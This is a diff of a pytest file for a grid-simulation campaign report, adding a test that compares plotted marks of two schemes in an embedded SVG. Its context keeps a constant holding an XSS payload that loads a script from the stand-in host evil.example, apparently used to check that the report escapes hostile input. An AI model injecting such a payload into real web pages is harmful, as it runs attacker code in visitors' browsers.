@@ -2,12 +2,14 @@
 # ruff: noqa: RUF001 -- the page writes minus signs and dashes
 
 import re
+from base64 import b64decode
 from html.parser import HTMLParser
 from pathlib import Path
 from shutil import copytree
 from typing import Any
 from urllib.parse import unquote
 
+import numpy as np
 import pytest
 from typing_extensions import override
 
@@ -16,6 +18,7 @@ from gridloom.scenarios.campaigns.index import About, Index, PlannedRun
 from gridloom.scenarios.campaigns.outcome import Fault, Outcome
 from gridloom.scenarios.campaigns.point import Axis
 from gridloom.scenarios.results.campaign import write_campaign_report
+from gridloom.scenarios.results.comparison.figures.looks import scheme_looks
 from gridloom.scenarios.results.kpis.kpi import Kpi
 from gridloom.scenarios.runner import Run, run
 from gridloom.simulators.errors import RecordError, ScenarioError
@@ -23,6 +26,7 @@ from gridloom.simulators.errors import RecordError, ScenarioError
 HOSTILE = '"><script src="http://evil.example/x.js">alert(1)</script>'
 SCHEME = Axis(name="scheme", keys=("variant",), labels=("basic", "amas"))
 SEED = Axis(name="seed", keys=("seed",), labels=(1, 2, 3), is_seed=True)
+_LEGEND_PT = 25
 COST, OVERLOAD = "imbalance_cost_eur", "line_overload_duration_s"
 
 
@@ -114,6 +118,24 @@ def test_the_page_needs_nothing_from_outside(write_campaign: Any) -> None:
     assert all(link.startswith("data:image/svg+xml;base64,") for link in page.links)
     assert not page.tags & {"script", "link", "iframe", "object"}
     assert all(page.alternatives)
+
+
+def test_equal_values_of_two_schemes_stand_side_by_side(write_campaign: Any) -> None:
+    """The overload is the same for both, at two powers: four marks, at four places, 4 pt apart."""
+    page = page_of(write_campaign(), indicators=[OVERLOAD])
+    (uri, *_rest) = (link for link in page.links if link.startswith("data:"))
+    svg = b64decode(uri.partition(",")[2]).decode()
+    basic, amas = (
+        {
+            (float(x), float(y))
+            for x, y in re.findall(rf'x="(.*?)" y="(.*?)" style="fill: {look.colour.lower()}', svg)
+            if float(y) > _LEGEND_PT
+        }
+        for look in scheme_looks(("basic", "amas"), "basic").values()
+    )
+    assert len(basic) == 2
+    moved = [(x - 4, y) for x, y in sorted(amas)]
+    assert np.array(moved) == pytest.approx(np.array(sorted(basic)))
 
 
 def test_means_over_seeds_with_their_intervals(write_campaign: Any) -> None:
